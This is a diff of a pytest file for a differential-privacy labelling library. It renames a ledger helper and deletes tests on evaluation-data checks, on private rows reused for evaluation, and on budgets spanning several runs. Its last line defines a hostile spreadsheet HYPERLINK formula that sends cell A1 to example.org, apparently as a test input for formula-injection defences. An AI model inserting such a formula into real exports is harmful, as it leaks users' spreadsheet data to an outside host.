@@ -7,17 +7,17 @@ from itertools import combinations
 
 import polars as pl
 import pytest
-from tests.folder.conftest import PUBLISHED, edit, labels, run, spent_on
+from tests.folder.conftest import PUBLISHED, history, labels, run, spent_on
 
 from quorate.accounting import Guarantee
 from quorate.accounting.attacker import OF_BUDGETS
 from quorate.deferred import skops
-from quorate.errors import DataRefused, InvalidParameter, act
+from quorate.errors import InvalidParameter, act
 from quorate.folder.batch import load_run
 from quorate.folder.data_settings import unit_word
 from quorate.folder.folder import RunFolder
 from quorate.folder.loaded import facts_for_owner
-from quorate.folder.methods import execute, publish
+from quorate.folder.methods import publish
 from quorate.folder.prepared import outputs
 from quorate.ledger import Ledger
 from quorate.noise import SeededNoise
@@ -86,17 +86,12 @@ def test_an_open_private_folder_is_closed_before_anything_is_written_there(make_
 
 
 def test_a_finished_run_again_and_another_student_of_it_charge_and_draw_nothing(finished):
-    before, settings = (labels(finished), _entries(finished)), finished / "quorate.toml"
+    before, settings = (labels(finished), history(finished)), finished / "quorate.toml"
     run(finished)
-    assert (labels(finished), _entries(finished)) == before
+    assert (labels(finished), history(finished)) == before
     settings.write_text(settings.read_text() + '\n[student]\nmodel = "forest"\n')
     assert run(finished).setup.student == "RandomForestClassifier"
-    assert (labels(finished), _entries(finished)) == before
-
-
-def _entries(root):
-    with Ledger(root / "ledger.db") as ledger:
-        return [entry["kind"] for entry in ledger.export()]
+    assert (labels(finished), history(finished)) == before
 
 
 def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run, cli):
@@ -148,34 +143,6 @@ def test_people_have_all_their_rows_with_one_teacher(make_run):
 @pytest.mark.quick
 def test_a_column_that_numbers_records_is_no_clash_with_the_word_record():
     assert unit_word("record_id") == "record id"
-
-
-@pytest.mark.quick
-def test_evaluation_rows_are_looked_at_before_anything_is_charged(make_run):
-    root = make_run(**{"data.evaluation": "evaluation.csv"})
-    table = pl.read_csv(root / "evaluation.csv")
-    table.with_columns(pl.lit("maybe").alias("ill")).write_csv(root / "evaluation.csv")
-    with pytest.raises(DataRefused, match=r"evaluation\.csv, column 'ill': a label outside classes was found"):
-        load_run(root)
-    table.drop("bmi").write_csv(root / "evaluation.csv")
-    with pytest.raises(DataRefused, match=r"evaluation\.csv lacks the column 'bmi'"):
-        load_run(root)
-    assert not (root / "ledger.db").exists()
-
-
-@pytest.mark.default_cases(1)
-@pytest.mark.parametrize("disguise", ["same file", "copy", "shuffled", "other labels"])
-def test_the_private_table_is_no_evaluation_table(make_run, disguise):
-    root = make_run(**{"data.evaluation": "private.csv" if disguise == "same file" else "evaluation.csv"})
-    private = pl.read_csv(root / "private.csv")
-    if disguise != "same file":
-        rows = private if disguise == "copy" else private.sample(fraction=1.0, shuffle=True, seed=4)
-        if disguise == "other labels":
-            rows = rows.head(40).with_columns(ill=pl.lit("no"))
-        rows.write_csv(root / "evaluation.csv")
-    again = "is the private file again" if disguise == "same file" else "holds the private rows again"
-    with pytest.raises(DataRefused, match=f"evaluation {again}"):
-        load_run(root)
 
 
 @pytest.mark.quick
@@ -234,9 +201,9 @@ def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(make
         with act(), pytest.raises(InvalidParameter, match="cannot be written by skops") as refusal:
             run(root)
     assert "stays charged" in str(refusal.value.charged)
-    entries = _entries(root)
+    entries = history(root)
     run(root)
-    assert _entries(root) == entries
+    assert history(root) == entries
 
 
 def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(finished):
@@ -263,19 +230,6 @@ def test_the_internal_edition_knows_every_margin_and_stays_secret(finished):
     assert told.agreement.plurality > 0.8
     assert 0 < told.stability.mean < 0.5
     assert told.stability.n_records == 400 // 12
-
-
-def test_a_budget_may_last_for_several_runs(make_run):
-    """Each takes its share, and what both cost together stands in the second's guarantee."""
-    root = make_run(**{"run.epsilon": 1.5, "run.delta": 4e-6})
-    first = execute(load_run(root), command="first")
-    edit(root, "count = 12", "count = 13")
-    second = execute(load_run(root), command="second")
-
-    assert first.guarantee.epsilon == pytest.approx(1.5, abs=1e-6)
-    assert second.guarantee.epsilon == pytest.approx(3.0, abs=1e-6)
-    assert second.guarantee.delta == pytest.approx(8e-6)
-    assert any("earlier runs" in caveat for caveat in second.guarantee.caveats)
 
 
 HOSTILE = "=HYPERLINK('http://example.org/?'&A1)"
